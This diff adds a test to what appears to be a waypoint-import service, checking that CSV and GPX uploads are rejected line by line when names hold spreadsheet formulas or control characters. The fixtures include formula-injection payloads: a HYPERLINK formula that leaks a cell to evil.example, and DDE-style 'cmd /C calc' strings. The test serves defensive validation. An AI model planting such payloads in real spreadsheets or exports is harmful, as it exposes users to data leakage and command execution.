@@ -171,6 +171,48 @@ async def test_a_bad_file_fails_the_job_with_line_errors_and_keeps_the_waypoints
     assert polled.json()["status"] == "failed" and "line 3" in polled.json()["error"]
 
 
+# Names a request may not hold: a spreadsheet formula (quoted: it holds commas), a formula
+# after leading blanks, and a control character (BEL) inside a name.
+HOSTILE_NAMES_CSV = (
+    b"lat,lon,name\n"
+    b"52.1,13.1,ok\n"
+    b'52.2,13.2,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"\n'
+    b"52.3,13.3,  +cmd|' /C calc'!A0\n"
+    b"52.4,13.4,bell\x07inside\n"
+)
+HOSTILE_NAMES_GPX = b"""<?xml version="1.0" encoding="UTF-8"?>
+<gpx version="1.1" creator="test" xmlns="http://www.topografix.com/GPX/1/1">
+  <wpt lat="53.1" lon="10.1"><name>@SUM(1+1)*cmd|' /C calc'!A0</name></wpt>
+  <wpt lat="53.2" lon="10.2"><name>tab\tinside</name></wpt>
+</gpx>
+"""
+
+
+async def test_names_a_request_may_not_hold_fail_the_import_line_by_line(
+    client, headers, trip_id, session_factory, worker_ctx
+) -> None:
+    before = await waypoints_of(session_factory, trip_id)
+    csv_job = (await upload(client, headers, trip_id, HOSTILE_NAMES_CSV, "text/csv")).json()["id"]
+    gpx_job = (
+        await upload(client, headers, trip_id, HOSTILE_NAMES_GPX, "application/gpx+xml")
+    ).json()["id"]
+    await import_waypoints(worker_ctx, csv_job)
+    await import_waypoints(worker_ctx, gpx_job)
+    csv_error = (await job_row(session_factory, csv_job)).error
+    gpx_error = (await job_row(session_factory, gpx_job)).error
+    formula = "name must not start with =, +, - or @ (a spreadsheet formula)"
+    control = "name must not contain control characters"
+    assert csv_error.splitlines()[1:] == [
+        f"line 3: {formula}",
+        f"line 4: {formula}",
+        f"line 5: {control}",
+    ]
+    assert gpx_error.splitlines()[1:] == [f"wpt 1: {formula}", f"wpt 2: {control}"]
+    assert await waypoints_of(session_factory, trip_id) == before
+    polled = await client.get(f"/v1/jobs/{csv_job}", headers=headers)
+    assert polled.json()["status"] == "failed" and "line 3" in polled.json()["error"]
+
+
 async def test_too_many_waypoints_fail_the_job(
     client, headers, trip_id, session_factory, worker_ctx
 ) -> None:
